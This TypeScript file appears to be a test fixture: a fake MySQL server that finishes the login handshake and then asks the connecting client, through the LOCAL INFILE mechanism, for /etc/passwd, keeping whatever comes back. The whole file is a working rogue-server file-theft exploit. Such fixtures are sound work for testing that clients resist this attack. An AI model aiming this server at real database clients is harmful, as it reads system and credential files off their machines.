import { createServer, type AddressInfo, type Server, type Socket } from 'node:net';

/** A server that speaks MySQL up to the login and then asks for a file of the hub's machine. */
export async function startThief(): Promise<{
  readonly port: number;
  /** Whatever was received after a file was asked for. */
  stolen(): string;
  stop(): Promise<void>;
}> {
  const sockets = new Set<Socket>();
  let stolen = '';
  const server: Server = createServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined);
    let step = 0;
    socket.write(packet(0, greeting()));
    socket.on('data', (bytes) => {
      step += 1;
      if (step === 1) socket.write(packet(2, Buffer.from([0, 0, 0, 2, 0, 0, 0])));
      else if (step === 2) socket.write(packet(1, Buffer.from('\u00fb/etc/passwd', 'latin1')));
      else stolen += bytes.toString('latin1');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    stolen: () => stolen,
    async stop() {
      sockets.forEach((socket) => socket.destroy());
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

function packet(sequence: number, body: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUIntLE(body.length, 0, 3);
  head[3] = sequence;
  return Buffer.concat([head, body]);
}

/** Protocol 10, with CLIENT_LOCAL_FILES among what the server can do. */
function greeting(): Buffer {
  return Buffer.concat([
    Buffer.from([10]),
    Buffer.from('8.0.0-thief\0', 'latin1'),
    Buffer.from([1, 0, 0, 0]),
    Buffer.from('12345678\0', 'latin1'),
    Buffer.from([0xff, 0xf7, 33, 2, 0, 0x0f, 0x80, 21]),
    Buffer.alloc(10),
    Buffer.from('123456789012\0', 'latin1'),
    Buffer.from('mysql_native_password\0', 'latin1'),
  ]);
}
